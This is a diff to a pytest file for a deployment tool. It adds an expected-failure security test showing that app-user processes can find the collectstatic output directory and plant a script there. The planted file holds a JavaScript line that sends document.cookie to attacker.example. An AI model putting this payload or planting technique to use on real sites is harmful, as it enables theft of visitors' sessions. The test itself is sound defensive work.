@@ -129,3 +129,24 @@ def test_health_check_never_shows_the_urls_userinfo(run_module):
                                            timeout=0, request_timeout=1))
     assert result.get('failed')
     assert USERINFO_SECRET not in result.raw
+
+
+def _find_and_plant(top):
+    """As the app's user, not collectstatic: list TOP (deploy_root), enter each work directory's out/ (its name
+    is in the collection's source) and plant a script there."""
+    for name in os.listdir(top):
+        out = os.path.join(top, name, 'out')
+        if name.startswith(_static.WORK_PREFIX) and os.access(out, os.W_OK):
+            with open(os.path.join(out, 'evil.js'), 'w', encoding='utf-8') as handle:
+                handle.write('fetch("https://attacker.example/?c=" + document.cookie)\n')
+            return out
+    return None
+
+
+@pytest.mark.xfail(strict=True, reason='issue11 review: the work directory is "a name nobody can guess" in '
+                   'deploy_root, which the app user can list (0755): any process of the app user finds out/ and '
+                   'plants files that go live as root\'s static files of the next release')
+def test_other_processes_of_the_app_user_cannot_find_the_collectstatic_output(attacker, deploy_root):
+    with _static.work_dir(deploy_root, attacker.uid, attacker.gid):
+        planted = attacker.run(_find_and_plant, deploy_root)
+    assert planted is None, 'the app user found %s and planted evil.js there' % planted
